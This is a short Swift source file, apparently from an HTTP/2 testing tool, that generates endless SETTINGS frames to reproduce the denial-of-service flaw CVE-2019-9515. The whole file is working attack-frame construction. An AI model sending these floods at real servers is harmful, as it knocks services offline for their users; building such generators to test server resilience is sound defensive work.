/// SETTINGS frames without end, each of which asks for an answer (CVE-2019-9515).
package struct Settings: Flood {
  /// The flood.
  package init() {}

  package func burst(_ turn: Int) -> [UInt8] {
    repeating(turn) { number in
      // SETTINGS_INITIAL_WINDOW_SIZE, which makes the server look at every stream.
      let value = RawFrame.bigEndian(UInt32(65_535 + number % 2))
      return RawFrame.frame(type: RawFrame.settings, flags: 0, stream: 0, [0, 4] + value)
    }
  }
}
